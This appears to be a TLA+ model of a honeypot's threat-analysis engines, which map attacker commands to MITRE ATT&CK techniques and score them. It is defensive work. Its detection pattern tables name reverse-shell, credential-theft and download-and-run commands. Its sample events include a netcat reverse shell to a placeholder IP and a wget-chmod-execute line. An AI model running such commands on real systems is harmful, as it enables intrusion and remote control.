---- MODULE Spec2Model ----
(***************************************************************************)
(* Honeypot threat-intelligence analysis core: the MITRE ATT&CK mapper,    *)
(* the threat scoring engine and the event correlation engine.             *)
(*                                                                         *)
(* Texts are TLA+ strings handled character by character (Len, SubSeq,     *)
(* \o), so the pattern tables are matched the way re.search matches them.  *)
(* Scores that carry a factor of 1.5 are kept in tenths, as integers.      *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    mt_events,      \* get_attack_chain: the events argument
    mt_pc,          \* mapper call: "ready" | "returned" | "raised"
    mt_mapped,      \* map_event(mt_events[1]) when the call was map_event
    mt_chain,       \* get_attack_chain(mt_events) when it returned
    sc_event,       \* calculate_score: the event argument
    sc_pc,          \* scoring call: "ready" | "done"
    sc_result,      \* what calculate_score(sc_event) returned
    co_store,       \* event store: per index, the documents of the queried IP
    co_pc,          \* correlate_by_ip: "ready" | "gathering" | "returned" | "raised"
    co_task,        \* per source query: "scheduled" | "waiting" | "done"
    co_results,     \* per source query: the list it returned
    co_failed,      \* per source query: it took the except branch
    co_order,       \* the sources in the order their queries ended
    co_result,      \* the correlation dict correlate_by_ip returned
    cd_active,      \* distinct source IPs with a document in the window
    cd_stale,       \* distinct source IPs with documents only before it
    cd_pc,          \* detect_coordinated_attacks: "ready" | "returned" | "raised"
    cd_found,       \* the list detect_coordinated_attacks returned
    pr_store,       \* event store the profile of an IP is built from
    pr_failed,      \* the source queries that failed while profiling
    pr_pc,          \* build_attacker_profile: "ready" | "returned" | "raised"
    pr_profile,     \* the profile build_attacker_profile returned
    hs_pc,          \* the engines' singletons in use: "idle" | "serving"
    hs_calls,       \* the calls served so far: operation, event, result
    hs_mapped,      \* the mapped dict of the latest map_event call
    hs_breakdown,   \* the score_breakdown dict of the latest calculate_score call
    na_chain,       \* generate_attack_narrative: the chain argument
    na_pc,          \* narrative call: "ready" | "returned"
    na_narrative,   \* the string generate_attack_narrative returned
    al_now,         \* what datetime.utcnow() reads, in minutes
    al_recent,      \* AlertManager.recent_alerts: per key the time recorded
    al_call,        \* per process_event call in flight: its position and event
    al_log,         \* the process_event calls that returned, with what they sent
    mo_now,         \* monitor_threats: what datetime.utcnow() reads, in minutes
    mo_pc,          \* monitor_threats: about to poll, or asleep after a poll
    mo_store,       \* the events a search of the event store can return
    mo_hidden,      \* events written to the store and not yet searchable
    mo_last_check,  \* monitor_threats: last_check
    mo_recent,      \* recent_alerts of the monitor's AlertManager
    mo_passed,      \* per event: how often it was passed to process_event
    mo_alerted      \* per event: how often a notification was sent for it

mt_vars == <<mt_events, mt_pc, mt_mapped, mt_chain>>
sc_vars == <<sc_event, sc_pc, sc_result>>
co_vars == <<co_store, co_pc, co_task, co_results, co_failed, co_order, co_result>>
cd_vars == <<cd_active, cd_stale, cd_pc, cd_found>>
pr_vars == <<pr_store, pr_failed, pr_pc, pr_profile>>
hs_vars == <<hs_pc, hs_calls, hs_mapped, hs_breakdown>>
na_vars == <<na_chain, na_pc, na_narrative>>
al_vars == <<al_now, al_recent, al_call, al_log>>
mo_vars == <<mo_now, mo_pc, mo_store, mo_hidden, mo_last_check, mo_recent, mo_passed,
             mo_alerted>>
vars == <<mt_vars, sc_vars, co_vars, cd_vars, pr_vars, hs_vars, na_vars, al_vars,
          mo_vars>>

(***************************************************************************)
(* Strings                                                                 *)
(***************************************************************************)
UpperCase == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LowerCase == "abcdefghijklmnopqrstuvwxyz"
Digits == "0123456789"

CharAt(s, i) == SubSeq(s, i, i)

CharIn(c, s) == \E i \in 1..Len(s) : CharAt(s, i) = c

\* str.lower() on one character
LowerChar(c) ==
    IF CharIn(c, UpperCase)
    THEN CharAt(LowerCase, CHOOSE i \in 1..Len(UpperCase) : CharAt(UpperCase, i) = c)
    ELSE c

RECURSIVE Lower(_)
\* str.lower()
Lower(s) ==
    IF Len(s) = 0 THEN ""
    ELSE LowerChar(CharAt(s, 1)) \o Lower(SubSeq(s, 2, Len(s)))

\* Python's `sub in s`
Contains(s, sub) ==
    \E i \in 1..(Len(s) - Len(sub) + 1) : SubSeq(s, i, i + Len(sub) - 1) = sub

(***************************************************************************)
(* re.search for the pattern shapes the tables use.  A pattern is a        *)
(* sequence of atoms: <<"lit", s>> a literal, <<"alt", <<s1, ..>>>> an      *)
(* alternation of literals, <<"ws">> \s, <<"ws+">> \s+, <<"any">> .* and    *)
(* <<"alnum+">> [a-z0-9]+.  Patterns are stored lower-cased: every search  *)
(* is either made with re.IGNORECASE or made on lower-cased text with a    *)
(* lower-case pattern.                                                     *)
(***************************************************************************)
Whitespace == {" ", "\t", "\n", "\r"}

IsSpace(c) == c \in Whitespace

IsAlnum(c) == CharIn(c, LowerCase) \/ CharIn(c, Digits)

LitAt(text, pos, s) ==
    /\ pos + Len(s) - 1 <= Len(text)
    /\ SubSeq(text, pos, pos + Len(s) - 1) = s

RECURSIVE MatchFrom(_, _, _, _)
\* the atoms k.. of pat match text starting at position pos
MatchFrom(pat, k, text, pos) ==
    IF k > Len(pat) THEN TRUE
    ELSE LET a == pat[k] IN
         CASE a[1] = "lit" ->
                  LitAt(text, pos, a[2]) /\ MatchFrom(pat, k + 1, text, pos + Len(a[2]))
           [] a[1] = "alt" ->
                  \E j \in 1..Len(a[2]) :
                      /\ LitAt(text, pos, a[2][j])
                      /\ MatchFrom(pat, k + 1, text, pos + Len(a[2][j]))
           [] a[1] = "ws" ->
                  /\ pos <= Len(text)
                  /\ IsSpace(CharAt(text, pos))
                  /\ MatchFrom(pat, k + 1, text, pos + 1)
           [] a[1] = "ws+" ->
                  \E q \in (pos + 1)..(Len(text) + 1) :
                      /\ \A i \in pos..(q - 1) : IsSpace(CharAt(text, i))
                      /\ MatchFrom(pat, k + 1, text, q)
           [] a[1] = "any" ->
                  \E q \in pos..(Len(text) + 1) :
                      /\ \A i \in pos..(q - 1) : CharAt(text, i) # "\n"
                      /\ MatchFrom(pat, k + 1, text, q)
           [] a[1] = "alnum+" ->
                  \E q \in (pos + 1)..(Len(text) + 1) :
                      /\ \A i \in pos..(q - 1) : IsAlnum(CharAt(text, i))
                      /\ MatchFrom(pat, k + 1, text, q)

\* re.search(pat, text) is not None
Search(pat, text) == \E pos \in 1..(Len(text) + 1) : MatchFrom(pat, 1, text, pos)

(***************************************************************************)
(* MitreAttackMapper: the catalog                                          *)
(***************************************************************************)
TACTICS ==
    <<<<"TA0001", "Initial Access">>,
      <<"TA0002", "Execution">>,
      <<"TA0003", "Persistence">>,
      <<"TA0004", "Privilege Escalation">>,
      <<"TA0005", "Defense Evasion">>,
      <<"TA0006", "Credential Access">>,
      <<"TA0007", "Discovery">>,
      <<"TA0008", "Lateral Movement">>,
      <<"TA0009", "Collection">>,
      <<"TA0011", "Command and Control">>,
      <<"TA0010", "Exfiltration">>,
      <<"TA0040", "Impact">>,
      <<"TA0043", "Reconnaissance">>>>

TECHNIQUE_MAPPINGS ==
    <<
      [id |-> "T1078", name |-> "Valid Accounts", tactic |-> "TA0001",
       patterns |-> <<<<<<"lit", "login.success">>>>,
                     <<<<"lit", "ssh">>, <<"any">>, <<"lit", "password">>>>>>,
       regex |-> <<"login\\.success", "ssh.*password">>],
      [id |-> "T1110", name |-> "Brute Force", tactic |-> "TA0006",
       patterns |-> <<<<<<"lit", "login.failed">>>>,
                     <<<<"lit", "brute">>, <<"any">>, <<"lit", "force">>>>,
                     <<<<"lit", "hydra">>>>,
                     <<<<"lit", "medusa">>>>>>,
       regex |-> <<"login\\.failed", "brute.*force", "hydra", "medusa">>],
      [id |-> "T1059", name |-> "Command and Scripting Interpreter", tactic |-> "TA0002",
       patterns |-> <<<<<<"lit", "bash">>>>,
                     <<<<"lit", "sh">>, <<"ws">>>>,
                     <<<<"lit", "python">>>>,
                     <<<<"lit", "perl">>>>,
                     <<<<"lit", "command.input">>>>>>,
       regex |-> <<"bash", "sh\\s", "python", "perl", "command\\.input">>],
      [id |-> "T1053", name |-> "Scheduled Task/Job", tactic |-> "TA0003",
       patterns |-> <<<<<<"lit", "crontab">>>>,
                     <<<<"lit", "at">>, <<"ws">>>>,
                     <<<<"lit", "systemd">>>>>>,
       regex |-> <<"crontab", "at\\s", "systemd">>],
      [id |-> "T1136", name |-> "Create Account", tactic |-> "TA0003",
       patterns |-> <<<<<<"lit", "useradd">>>>,
                     <<<<"lit", "adduser">>>>,
                     <<<<"lit", "passwd">>>>>>,
       regex |-> <<"useradd", "adduser", "passwd">>],
      [id |-> "T1548", name |-> "Abuse Elevation Control Mechanism", tactic |-> "TA0004",
       patterns |-> <<<<<<"lit", "sudo">>>>,
                     <<<<"lit", "su">>, <<"ws">>>>,
                     <<<<"lit", "pkexec">>>>>>,
       regex |-> <<"sudo", "su\\s", "pkexec">>],
      [id |-> "T1070", name |-> "Indicator Removal on Host", tactic |-> "TA0005",
       patterns |-> <<<<<<"lit", "rm">>, <<"any">>, <<"lit", "log">>>>,
                     <<<<"lit", "shred">>>>,
                     <<<<"lit", "history">>, <<"ws">>, <<"lit", "-c">>>>,
                     <<<<"lit", "unset">>, <<"ws">>, <<"lit", "histfile">>>>>>,
       regex |-> <<"rm.*log", "shred", "history\\s-c", "unset\\sHISTFILE">>],
      [id |-> "T1027", name |-> "Obfuscated Files or Information", tactic |-> "TA0005",
       patterns |-> <<<<<<"lit", "base64">>>>,
                     <<<<"lit", "xxd">>>>,
                     <<<<"lit", "openssl">>, <<"ws">>, <<"lit", "enc">>>>,
                     <<<<"lit", "gzip">>>>>>,
       regex |-> <<"base64", "xxd", "openssl\\senc", "gzip">>],
      [id |-> "T1003", name |-> "OS Credential Dumping", tactic |-> "TA0006",
       patterns |-> <<<<<<"lit", "/etc/passwd">>>>,
                     <<<<"lit", "/etc/shadow">>>>,
                     <<<<"lit", "mimikatz">>>>,
                     <<<<"lit", "dump">>, <<"any">>, <<"lit", "cred">>>>>>,
       regex |-> <<"/etc/passwd", "/etc/shadow", "mimikatz", "dump.*cred">>],
      [id |-> "T1552", name |-> "Unsecured Credentials", tactic |-> "TA0006",
       patterns |-> <<<<<<"lit", ".ssh/">>>>,
                     <<<<"lit", "id_rsa">>>>,
                     <<<<"lit", ".aws/">>>>,
                     <<<<"lit", ".docker/config">>>>>>,
       regex |-> <<"\\.ssh/", "id_rsa", "\\.aws/", "\\.docker/config">>],
      [id |-> "T1082", name |-> "System Information Discovery", tactic |-> "TA0007",
       patterns |-> <<<<<<"lit", "uname">>>>,
                     <<<<"lit", "hostname">>>>,
                     <<<<"lit", "cat">>, <<"ws">>, <<"lit", "/etc/issue">>>>,
                     <<<<"lit", "lsb_release">>>>>>,
       regex |-> <<"uname", "hostname", "cat\\s/etc/issue", "lsb_release">>],
      [id |-> "T1033", name |-> "System Owner/User Discovery", tactic |-> "TA0007",
       patterns |-> <<<<<<"lit", "whoami">>>>,
                     <<<<"lit", "id">>, <<"ws">>>>,
                     <<<<"lit", "w">>, <<"ws">>>>,
                     <<<<"lit", "who">>, <<"ws">>>>>>,
       regex |-> <<"whoami", "id\\s", "w\\s", "who\\s">>],
      [id |-> "T1046", name |-> "Network Service Discovery", tactic |-> "TA0007",
       patterns |-> <<<<<<"lit", "netstat">>>>,
                     <<<<"lit", "ss">>, <<"ws">>>>,
                     <<<<"lit", "lsof">>, <<"any">>, <<"lit", "listen">>>>>>,
       regex |-> <<"netstat", "ss\\s", "lsof.*LISTEN">>],
      [id |-> "T1057", name |-> "Process Discovery", tactic |-> "TA0007",
       patterns |-> <<<<<<"lit", "ps">>, <<"ws">>>>,
                     <<<<"lit", "top">>, <<"ws">>>>,
                     <<<<"lit", "htop">>>>>>,
       regex |-> <<"ps\\s", "top\\s", "htop">>],
      [id |-> "T1021", name |-> "Remote Services", tactic |-> "TA0008",
       patterns |-> <<<<<<"lit", "ssh">>, <<"ws">>, <<"any">>, <<"lit", "@">>>>,
                     <<<<"lit", "scp">>, <<"ws">>>>,
                     <<<<"lit", "rsync">>>>>>,
       regex |-> <<"ssh\\s.*@", "scp\\s", "rsync">>],
      [id |-> "T1005", name |-> "Data from Local System", tactic |-> "TA0009",
       patterns |-> <<<<<<"lit", "cat">>, <<"ws">>>>,
                     <<<<"lit", "head">>, <<"ws">>>>,
                     <<<<"lit", "tail">>, <<"ws">>>>,
                     <<<<"lit", "grep">>, <<"ws">>, <<"any">>, <<"lit", "-r">>>>>>,
       regex |-> <<"cat\\s", "head\\s", "tail\\s", "grep\\s.*-r">>],
      [id |-> "T1560", name |-> "Archive Collected Data", tactic |-> "TA0009",
       patterns |-> <<<<<<"lit", "tar">>, <<"ws">>, <<"any">>, <<"lit", "czf">>>>,
                     <<<<"lit", "zip">>, <<"ws">>>>,
                     <<<<"lit", "7z">>, <<"ws">>>>>>,
       regex |-> <<"tar\\s.*czf", "zip\\s", "7z\\s">>],
      [id |-> "T1071", name |-> "Application Layer Protocol", tactic |-> "TA0011",
       patterns |-> <<<<<<"lit", "curl">>>>,
                     <<<<"lit", "wget">>>>,
                     <<<<"lit", "http">>>>>>,
       regex |-> <<"curl", "wget", "http">>],
      [id |-> "T1105", name |-> "Ingress Tool Transfer", tactic |-> "TA0011",
       patterns |-> <<<<<<"lit", "wget">>, <<"ws">>, <<"lit", "http">>>>,
                     <<<<"lit", "curl">>, <<"any">>, <<"lit", "-o">>>>,
                     <<<<"lit", "scp">>, <<"any">>, <<"lit", "download">>>>>>,
       regex |-> <<"wget\\shttp", "curl.*-o", "scp.*download">>],
      [id |-> "T1572", name |-> "Protocol Tunneling", tactic |-> "TA0011",
       patterns |-> <<<<<<"lit", "ssh">>, <<"any">>, <<"lit", "-l">>>>,
                     <<<<"lit", "ssh">>, <<"any">>, <<"lit", "-r">>>>,
                     <<<<"lit", "ssh">>, <<"any">>, <<"lit", "-d">>>>>>,
       regex |-> <<"ssh.*-L", "ssh.*-R", "ssh.*-D">>],
      [id |-> "T1041", name |-> "Exfiltration Over C2 Channel", tactic |-> "TA0010",
       patterns |-> <<<<<<"lit", "curl">>, <<"any">>, <<"lit", "--data">>>>,
                     <<<<"lit", "wget">>, <<"any">>, <<"lit", "--post">>>>>>,
       regex |-> <<"curl.*--data", "wget.*--post">>],
      [id |-> "T1048", name |-> "Exfiltration Over Alternative Protocol", tactic |-> "TA0010",
       patterns |-> <<<<<<"lit", "nc">>, <<"ws">>, <<"any">>, <<"lit", "<">>>>,
                     <<<<"lit", "ncat">>, <<"any">>, <<"lit", "--send-only">>>>>>,
       regex |-> <<"nc\\s.*<", "ncat.*--send-only">>],
      [id |-> "T1486", name |-> "Data Encrypted for Impact", tactic |-> "TA0040",
       patterns |-> <<<<<<"lit", "encrypt">>>>,
                     <<<<"lit", "ransom">>>>,
                     <<<<"lit", ".locked">>>>>>,
       regex |-> <<"encrypt", "ransom", "\\.locked">>],
      [id |-> "T1496", name |-> "Resource Hijacking", tactic |-> "TA0040",
       patterns |-> <<<<<<"lit", "xmrig">>>>,
                     <<<<"lit", "minerd">>>>,
                     <<<<"lit", "cpuminer">>>>,
                     <<<<"lit", "cryptonight">>>>>>,
       regex |-> <<"xmrig", "minerd", "cpuminer", "cryptonight">>],
      [id |-> "T1531", name |-> "Account Access Removal", tactic |-> "TA0040",
       patterns |-> <<<<<<"lit", "userdel">>>>,
                     <<<<"lit", "passwd">>, <<"any">>, <<"lit", "-l">>>>>>,
       regex |-> <<"userdel", "passwd.*-l">>],
      [id |-> "T1595", name |-> "Active Scanning", tactic |-> "TA0043",
       patterns |-> <<<<<<"lit", "nmap">>>>,
                     <<<<"lit", "masscan">>>>,
                     <<<<"lit", "port">>, <<"any">>, <<"lit", "scan">>>>>>,
       regex |-> <<"nmap", "masscan", "port.*scan">>]
    >>

\* TACTICS[tactic_id]
TacticName(tactic_id) ==
    LET i == CHOOSE j \in 1..Len(TACTICS) : TACTICS[j][1] = tactic_id
    IN  TACTICS[i][2]

TacticIds == {TACTICS[j][1] : j \in 1..Len(TACTICS)}

(***************************************************************************)
(* Events.  A text key the event does not carry is "" (the default of      *)
(* every event.get(key, "") of the source).  A timestamp is a number: t in *)
(* 1..MaxTime stands for the fixed-width ISO-8601 string of second t,      *)
(* whose string order is the numeric order; Absent (no key) is 0, the rank *)
(* of the sort key's default "", the least string; BadTs stands for "n/a", *)
(* a string that is no ISO date and follows every string starting with a   *)
(* digit; Null (JSON null, Python None) is no string at all.               *)
(***************************************************************************)
MaxTime == 2

Absent == 0
Null == -1
BadTs == MaxTime + 1

InSeq(x, s) == \E i \in 1..Len(s) : s[i] = x

\* event.get("timestamp"): None when the key is absent
GetTimestamp(event) == IF event.timestamp = Absent THEN Null ELSE event.timestamp

\* event.get("input") or event.get("alert_msg")
Evidence(event) == IF event.input # "" THEN event.input ELSE event.alert_msg

\* (eventid, input, alert_msg) of the events of the universe
LoginSuccess == <<"cowrie.login.success", "", "">>
Discovery == <<"cowrie.command.input", "uname -a; whoami", "">>
Persist == <<"cowrie.command.input", "crontab -e; cat /etc/passwd", "">>
Download == <<"cowrie.command.input", "wget http://x/y && chmod +x y && ./y", "">>
ScanAlert == <<"", "", "ET SCAN Nmap Port Scan">>
NoMatch == <<"dionaea.connection", "", "">>
LoginFailed == <<"cowrie.login.failed", "", "">>
ReverseShell == <<"cowrie.command.input", "nc -e /bin/sh 1.2.3.4 80", "">>
\* the command of Download in an event that carries no eventid
DownloadInputOnly == <<"", "wget http://x/y && chmod +x y && ./y", "">>

ChainKinds == {LoginSuccess, Discovery, Persist}
MapKinds ==
    ChainKinds \cup {Download, ScanAlert, NoMatch, LoginFailed, ReverseShell,
                      DownloadInputOnly}

MemoTexts == MapKinds

(***************************************************************************)
(* MitreAttackMapper.map_event                                             *)
(***************************************************************************)
\* f"{event_id} {command} {alert_msg}".lower()
CombinedText(event) ==
    Lower(event.eventid \o " " \o event.input \o " " \o event.alert_msg)

\* (faulty variant) the last matching pattern is reported instead of the first
LastMatchingPattern(technique_data, combined_text) ==
    LET hits == {p \in 1..Len(technique_data.patterns) :
                    Search(technique_data.patterns[p], combined_text)}
    IN  IF hits = {} THEN 0
        ELSE CHOOSE p \in hits : \A r \in hits : p >= r

\* index of the first pattern of the technique that matches, 0 when none does
FirstMatchingPattern(technique_data, combined_text) ==
    LET hits == {p \in 1..Len(technique_data.patterns) :
                    Search(technique_data.patterns[p], combined_text)}
    IN  IF hits = {} THEN 0
        ELSE CHOOSE p \in hits : \A r \in hits : p <= r

\* the body of the loop over TECHNIQUE_MAPPINGS for one technique
MapTechnique(mapped, technique_data, combined_text) ==
    LET p == FirstMatchingPattern(technique_data, combined_text) IN
    IF p = 0 \/ InSeq(technique_data.id, mapped.techniques) THEN mapped
    ELSE [tactics |->
              IF InSeq(technique_data.tactic, mapped.tactics) THEN mapped.tactics
              ELSE Append(mapped.tactics, technique_data.tactic),
          techniques |-> Append(mapped.techniques, technique_data.id),
          technique_details |->
              Append(mapped.technique_details,
                     [technique_id |-> technique_data.id,
                      technique_name |-> technique_data.name,
                      tactic_id |-> technique_data.tactic,
                      tactic_name |-> TacticName(technique_data.tactic),
                      matched_pattern |-> technique_data.regex[p]])]

RECURSIVE MapLoop(_, _, _)
MapLoop(mapped, i, combined_text) ==
    IF i > Len(TECHNIQUE_MAPPINGS) THEN mapped
    ELSE MapLoop(MapTechnique(mapped, TECHNIQUE_MAPPINGS[i], combined_text),
                 i + 1, combined_text)

EmptyMapping == [tactics |-> <<>>, techniques |-> <<>>, technique_details |-> <<>>]

MapText(combined_text) == MapLoop(EmptyMapping, 1, combined_text)

\* map_event is a function of the three text fields alone; the mappings of the
\* texts of the event universe are computed once and looked up afterwards
TextOf(event) == <<event.eventid, event.input, event.alert_msg>>

\* (faulty variant) only the command is searched, not the eventid and the alert
TextMappingOfCommand(k) == MapText(Lower(k[2]))

TextMapping(k) == MapText(Lower(k[1] \o " " \o k[2] \o " " \o k[3]))

MapMemo == [k \in MemoTexts |-> TextMapping(k)] @@ << >>

map_event(event) ==
    IF TextOf(event) \in DOMAIN MapMemo THEN MapMemo[TextOf(event)]
    ELSE MapText(CombinedText(event))

(***************************************************************************)
(* MitreAttackMapper.get_attack_chain                                      *)
(***************************************************************************)
\* the sort key x.get("timestamp", ""), as its rank in string order
TsKey(event) == event.timestamp

\* sorted() compares every element of a list of two or more with another, and
\* None < x and x < None raise TypeError
SortRaises(events) ==
    Len(events) >= 2 /\ \E i \in 1..Len(events) : events[i].timestamp = Null

\* list.insert keeping equal keys in arrival order
InsertByKey(sorted, event) ==
    LET after == {i \in 1..Len(sorted) : TsKey(sorted[i]) <= TsKey(event)}
        n == Cardinality(after)
    IN  SubSeq(sorted, 1, n) \o <<event>> \o SubSeq(sorted, n + 1, Len(sorted))

RECURSIVE SortLoop(_, _, _)
SortLoop(sorted, events, i) ==
    IF i > Len(events) THEN sorted
    ELSE SortLoop(InsertByKey(sorted, events[i]), events, i + 1)

\* (faulty variant) the events are walked in the order given, unsorted
UnsortedEvents(events) == events

\* sorted(events, key=lambda x: x.get("timestamp", "")): stable, ascending
SortedByTimestamp(events) == SortLoop(<<>>, events, 1)

NewStep(event, detail) ==
    [tactic |-> detail.tactic_name,
     tactic_id |-> detail.tactic_id,
     technique |-> detail.technique_name,
     technique_id |-> detail.technique_id,
     timestamp |-> GetTimestamp(event),
     evidence |-> Evidence(event)]

\* (faulty variant) every detail is appended, seen_tactics is not consulted
ChainStepNoSeenCheck(acc, event, detail) ==
    [chain |-> Append(acc.chain, NewStep(event, detail)),
     seen_tactics |-> acc.seen_tactics \cup {detail.tactic_id}]

\* the inner loop body: one technique detail of one event
ChainStep(acc, event, detail) ==
    IF detail.tactic_id \in acc.seen_tactics THEN acc
    ELSE [chain |-> Append(acc.chain, NewStep(event, detail)),
          seen_tactics |-> acc.seen_tactics \cup {detail.tactic_id}]

RECURSIVE DetailLoop(_, _, _, _)
DetailLoop(acc, event, details, d) ==
    IF d > Len(details) THEN acc
    ELSE DetailLoop(ChainStep(acc, event, details[d]), event, details, d + 1)

RECURSIVE ChainLoop(_, _, _)
ChainLoop(acc, sorted_events, i) ==
    IF i > Len(sorted_events) THEN acc
    ELSE ChainLoop(DetailLoop(acc, sorted_events[i],
                              map_event(sorted_events[i]).technique_details, 1),
                   sorted_events, i + 1)

\* get_attack_chain: the chain, or raised when sorted() raises
get_attack_chain(events) ==
    IF SortRaises(events) THEN [raised |-> TRUE, chain |-> <<>>]
    ELSE [raised |-> FALSE,
          chain |-> ChainLoop([chain |-> <<>>, seen_tactics |-> {}],
                              SortedByTimestamp(events), 1).chain]

(***************************************************************************)
(* The mapper's callers: one call of map_event or of get_attack_chain on   *)
(* an event list drawn from the event universe.                            *)
(***************************************************************************)
MaxChainEvents == 3

Ev(id, inp, alert, ts) ==
    [eventid |-> id, input |-> inp, alert_msg |-> alert, timestamp |-> ts]


\* events of a chain call: every kind at every time or with no timestamp, one
\* event with a null timestamp and one with an unparseable one
ChainUniverse ==
    {Ev(k[1], k[2], k[3], ts) : k \in ChainKinds, ts \in {Absent} \cup (1..MaxTime)}
    \cup {Ev(Discovery[1], Discovery[2], Discovery[3], Null),
          Ev(Persist[1], Persist[2], Persist[3], BadTs)}

MapUniverse == {Ev(k[1], k[2], k[3], 1) : k \in MapKinds}

SeqsUpTo(S, n) == UNION {[1..m -> S] : m \in 0..n}

\* mapper.map_event(event)
MapEvent ==
    /\ mt_pc = "ready"
    /\ Len(mt_events) = 1
    /\ mt_mapped' = map_event(mt_events[1])
    /\ mt_pc' = "mapped"
    /\ UNCHANGED <<mt_events, mt_chain, sc_vars, co_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>

\* mapper.get_attack_chain(events)
GetAttackChain ==
    /\ mt_pc = "ready"
    /\ LET r == get_attack_chain(mt_events) IN
         /\ mt_pc' = IF r.raised THEN "raised" ELSE "returned"
         /\ mt_chain' = r.chain
    /\ UNCHANGED <<mt_events, mt_mapped, sc_vars, co_vars, cd_vars, pr_vars,
                   hs_vars,
                   na_vars, al_vars, mo_vars>>


(***************************************************************************)
(* ThreatScoringEngine: the policy tables                                  *)
(***************************************************************************)
ATTACK_TYPE_SCORES ==
    <<<<"port_scan", 5>>,
      <<"service_enum", 8>>,
      <<"vuln_scan", 10>>,
      <<"brute_force_failed", 15>>,
      <<"brute_force_success", 40>>,
      <<"exploit_attempt", 30>>,
      <<"exploit_success", 60>>,
      <<"command_execution", 25>>,
      <<"script_execution", 30>>,
      <<"malware_execution", 70>>,
      <<"backdoor_install", 65>>,
      <<"scheduled_task", 45>>,
      <<"service_creation", 50>>,
      <<"sudo_attempt", 35>>,
      <<"root_access", 55>>,
      <<"log_deletion", 40>>,
      <<"process_injection", 60>>,
      <<"password_dump", 70>>,
      <<"key_logging", 65>>,
      <<"network_discovery", 20>>,
      <<"system_info", 15>>,
      <<"remote_service", 50>>,
      <<"ssh_tunneling", 55>>,
      <<"data_staged", 60>>,
      <<"screenshot", 40>>,
      <<"c2_connection", 75>>,
      <<"encrypted_channel", 70>>,
      <<"data_exfil", 85>>,
      <<"dns_tunneling", 80>>,
      <<"ransomware", 95>>,
      <<"crypto_mining", 50>>,
      <<"resource_hijacking", 45>>>>

HIGH_RISK_COUNTRIES ==
    <<<<"CN", 15>>, <<"RU", 15>>, <<"KP", 20>>, <<"IR", 18>>, <<"VN", 10>>, <<"BR", 8>>>>

COMMAND_PATTERNS ==
    <<[pattern |-> <<<<"alt", <<"wget", "curl">>>>, <<"ws+">>, <<"lit", "http">>>>, attack_type |-> "malware_download", risk |-> 30],
      [pattern |-> <<<<"lit", "chmod">>, <<"ws+">>, <<"lit", "+x">>>>, attack_type |-> "make_executable", risk |-> 25],
      [pattern |-> <<<<"alt", <<"nc", "netcat">>>>, <<"any">>, <<"lit", "-e">>>>, attack_type |-> "reverse_shell", risk |-> 70],
      [pattern |-> <<<<"lit", "bash">>, <<"ws+">>, <<"lit", "-i">>>>, attack_type |-> "interactive_shell", risk |-> 65],
      [pattern |-> <<<<"lit", "/etc/">>, <<"alt", <<"passwd", "shadow">>>>>>, attack_type |-> "credential_theft", risk |-> 60],
      [pattern |-> <<<<"alt", <<"cat", "grep">>>>, <<"any">>, <<"lit", ".ssh">>>>, attack_type |-> "ssh_key_theft", risk |-> 55],
      [pattern |-> <<<<"lit", "crontab">>>>, attack_type |-> "persistence", risk |-> 45],
      [pattern |-> <<<<"alt", <<"kill", "pkill">>>>, <<"any">>, <<"lit", "log">>>>, attack_type |-> "anti_forensics", risk |-> 40],
      [pattern |-> <<<<"alt", <<"uname", "whoami", "id">>>>>>, attack_type |-> "reconnaissance", risk |-> 10],
      [pattern |-> <<<<"alt", <<"iptables", "firewall">>>>>>, attack_type |-> "defense_evasion", risk |-> 35],
      [pattern |-> <<<<"alt", <<"python", "perl", "ruby">>>>, <<"any">>, <<"lit", "-c">>>>, attack_type |-> "scripting", risk |-> 30],
      [pattern |-> <<<<"lit", "base64">>, <<"any">>, <<"lit", "decode">>>>, attack_type |-> "obfuscation", risk |-> 35]>>

\* the four searches of _assess_sophistication
ObfuscationRe == <<<<"alt", <<"base64", "xxd", "hex">>>>>>
CustomToolRe == <<<<"lit", "./">>, <<"alnum+">>>>
EncryptionRe == <<<<"alt", <<"openssl", "gpg", "aes">>>>>>
AntiForensicsRe == <<<<"alt", <<"shred", "wipe", "srm">>>>>>

Min(a, b) == IF a <= b THEN a ELSE b

\* table.get(key, default) on a table kept as a sequence of <<key, value>>
Lookup(table, key, default) ==
    IF \E i \in 1..Len(table) : table[i][1] = key
    THEN table[CHOOSE i \in 1..Len(table) : table[i][1] = key][2]
    ELSE default

(***************************************************************************)
(* Scored events.  Text keys the event does not carry are "", priority and *)
(* the abuse confidence score are 0 when not carried, flags are FALSE.     *)
(* at_hour is the UTC hour of "@timestamp": NoHour when the key is absent  *)
(* or the string does not parse (the except branch).                       *)
(***************************************************************************)
NoHour == -1

\* the branch of _identify_attack_type taken for command events
CommandAttackType(input) ==
    LET command == Lower(input)
        hits == {i \in 1..Len(COMMAND_PATTERNS) :
                    Search(COMMAND_PATTERNS[i].pattern, command)}
    IN  IF hits = {} THEN "command_execution"
        ELSE COMMAND_PATTERNS[CHOOSE i \in hits : \A j \in hits : i <= j].attack_type

\* the branches of _identify_attack_type on the event's texts
TextAttackType(eventid, input, connection_type, alert_msg) ==
    IF Contains(eventid, "login.failed") THEN "brute_force_failed"
    ELSE IF Contains(eventid, "login.success") THEN "brute_force_success"
    ELSE IF Contains(eventid, "file_download") THEN "malware_download"
    ELSE IF Contains(eventid, "command.input") THEN CommandAttackType(input)
    ELSE IF connection_type = "smb" THEN "exploit_attempt"
    ELSE LET msg == Lower(alert_msg) IN
         IF Contains(msg, "brute force") THEN "brute_force_attempt"
         ELSE IF Contains(msg, "port scan") THEN "port_scan"
         ELSE IF Contains(msg, "exploit") THEN "exploit_attempt"
         ELSE "unknown"

\* the command-text part of _assess_sophistication
TextSophistication(input) ==
    LET command == Lower(input) IN
      (IF Search(ObfuscationRe, command) THEN 15 ELSE 0)
    + (IF Search(CustomToolRe, command) THEN 10 ELSE 0)
    + (IF Search(EncryptionRe, command) THEN 12 ELSE 0)
    + (IF Search(AntiForensicsRe, command) THEN 20 ELSE 0)

\* the event-id part of _is_successful_attack
TextSuccess(eventid) ==
    \/ Contains(eventid, "login.success")
    \/ Contains(eventid, "command.input")
    \/ Contains(eventid, "file_download")
    \/ Contains(eventid, "download.complete")

\* the texts of the scored events; what the pattern searches give on them is
\* computed once and looked up afterwards
ScoreEventIds ==
    {"", "cowrie.login.failed", "cowrie.login.success",
     "cowrie.session.file_download", "cowrie.command.input"}
ScoreInputs ==
    {"", "uname -a", "nc -e /bin/sh 1.2.3.4 80",
     "openssl enc -aes | base64 ; shred f ; ./x1"}
